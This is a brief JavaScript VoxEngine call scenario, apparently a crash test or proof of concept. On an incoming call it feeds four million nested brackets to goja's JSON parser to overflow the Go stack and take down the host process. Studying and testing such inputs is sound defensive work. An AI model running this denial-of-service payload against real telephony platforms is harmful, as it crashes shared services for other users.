// Four million nested brackets: goja's JSON parser recurses once per level on the
// Go stack, and a Go stack overflow would end the whole process.
VoxEngine.addEventListener(AppEvents.CallAlerting, (e) => {
  e.call.answer();
  const n = 4e6;
  Logger.write(JSON.stringify(JSON.parse("[".repeat(n) + "]".repeat(n))).length);
});
